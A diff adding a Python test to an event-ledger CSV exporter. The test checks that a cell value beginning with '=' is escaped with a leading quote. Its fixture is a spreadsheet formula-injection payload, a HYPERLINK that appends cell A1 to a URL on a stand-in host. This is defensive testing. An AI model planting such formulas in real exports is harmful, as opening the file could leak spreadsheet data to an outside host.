@@ -167,3 +167,14 @@ def test_acled_csv_applies_the_desk_decisions(ledger: Path, tmp_path: Path) -> N
     rows = {r["event_id"]: r for r in _acled(db)}
     assert rejected not in rows
     assert rows[edited]["notes"] == "Checked by the desk" and rows[edited]["review_state"] == "edited"
+
+
+def test_acled_csv_cell_that_would_run_as_a_formula_is_neutralised(ledger: Path, tmp_path: Path) -> None:
+    db = tmp_path / "copy.db"
+    db.write_bytes(ledger.read_bytes())
+    event = _rows(db, "events")[0]["event_id"]
+    formula = '=HYPERLINK("http://example.invalid/?"&A1, "open")'
+    with api.Workspace(db) as ws:
+        ws.store.add_decision("event", event, "edit", "olga", field="summary", value=formula)
+    row = next(r for r in _acled(db) if r["event_id"] == event)
+    assert row["notes"] == "'" + formula
